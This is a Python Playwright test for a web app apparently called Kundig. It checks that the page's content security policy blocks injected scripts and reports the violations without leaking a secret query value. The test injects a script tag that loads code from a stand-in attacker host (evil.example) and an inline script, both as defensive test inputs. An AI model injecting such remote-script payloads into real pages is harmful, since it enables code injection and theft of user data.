"""A browser tells Kundig of what the policy of a page kept out; that no page asks for such a thing is looked at when servers end."""

from __future__ import annotations

import json
import time

from playwright.sync_api import Browser
from tests.serving import serving


def test_what_is_slipped_in_is_kept_out_and_reported(browser: Browser) -> None:
    with serving(LANG="en_US.UTF-8", LC_ALL="") as served:
        page = browser.new_context(locale="en-US").new_page()
        page.goto(f"{served.url}/sign-in?next=/o/contact")
        for slipped in ("i.src = 'http://evil.example/x.js?secret'", "i.textContent = 'window.slipped = 1'"):
            page.evaluate(f"() => {{ const i = document.createElement('script'); {slipped}; document.body.append(i); }}")
        assert page.evaluate("window.slipped") is None
        until, found = time.monotonic() + 20, []
        while len(found) < 2 and time.monotonic() < until:
            found = [line for line in served.log.read_text().splitlines() if "policy violated" in line]
            time.sleep(0.2)
        told = sorted((line["directive"], line["blocked"], line["page"]) for line in map(json.loads, found))
        assert told == [("script-src-elem", "evil.example", "/sign-in"), ("script-src-elem", "inline", "/sign-in")]
        assert "secret" not in "".join(found)
        page.context.close()
        served.log.write_text("")  # these were meant
